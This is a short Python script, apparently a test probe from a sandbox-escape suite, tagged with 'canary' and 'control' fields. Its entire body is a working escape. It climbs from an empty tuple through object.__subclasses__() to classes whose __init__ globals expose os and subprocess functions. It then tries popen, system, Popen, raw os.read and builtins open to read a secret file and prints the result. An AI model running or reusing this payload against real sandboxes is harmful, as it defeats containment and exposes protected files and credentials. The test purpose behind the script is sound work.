"""From an empty tuple to all classes, from them to one whose module has the functions of os.

canary: secret
control: through
"""
secret = TARGETS["secret"]
classes = ().__class__.__base__.__subclasses__()
for kind in classes:
    try:
        names = kind.__init__.__globals__
    except AttributeError:
        continue
    if kind.__name__ not in ("_wrap_close", "Popen", "_Environ", "Quitter", "catch_warnings", "CompletedProcess"):
        continue
    for way in (
        lambda: names["popen"](f"cat {secret}").read(),
        lambda: names["system"](f"cat {secret}"),
        lambda: names["read"](names["open"](secret, 0), 100),
        lambda: names["Popen"](["cat", secret], stdout=-1).communicate(),
        lambda: names["__builtins__"]["open"](secret).read(),
        lambda: names["sys"].modules["posix"].open(secret, 0),
    ):
        try:
            print(kind.__name__, way())
        except Exception as error:
            print(error)
